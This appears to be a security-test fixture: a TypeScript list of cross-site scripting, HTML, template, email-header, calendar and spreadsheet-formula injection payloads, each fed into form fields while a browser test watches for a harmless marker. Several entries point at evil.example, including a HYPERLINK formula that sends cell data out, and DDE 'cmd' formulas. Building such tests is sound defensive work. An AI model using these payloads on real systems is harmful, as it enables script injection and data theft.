/** The mark that a payload sets when it runs; a test in a browser looks for it. */
export const mark = '__xss'

const run = `window.${mark}=1`

/**
 * Texts that have run scripts, opened attributes, ended elements, or begun lines, cells and headers of their own in similar
 * products. Each is sent in every field of every resource.
 */
export const payloads = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea></style></template><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script type="application/ld+json">{"@type":"Event"}</script><!--<script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#9;script&colon;${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `javascript:${run}`,
  `jAvAsCrIpT&colon;${run}`,
  `<form action="javascript:${run}"><button formaction="javascript:${run}">x</button></form>`,
  '<base href="https://evil.example/">',
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  `<p style="background:url(javascript:${run})" onclick="${run}" data-x="1">x</p>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<!--<img src="--><img src=x onerror=${run}>//">`,
  `<x-evil onclick="${run}" tabindex="1" contenteditable>x</x-evil>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<video><source onerror="${run}"></video>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `]]><script>${run}</script><![CDATA[`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `{{constructor.constructor('${run}')()}}\${${run}}`,
  'Evening\r\nATTACH:https://evil.example/\r\nX-EVIL:1',
  'Evening\\nEND:VEVENT\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Evil\nX-EVIL:1',
  'Evening\r\nBcc: evil@evil.example\r\n\r\n<html>',
  'Evening\u2028BEGIN:VALARM\u0085X-EVIL:1\u000bX-EVIL:1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|A0',
  '@SUM(1+1)*cmd|A0',
] as const
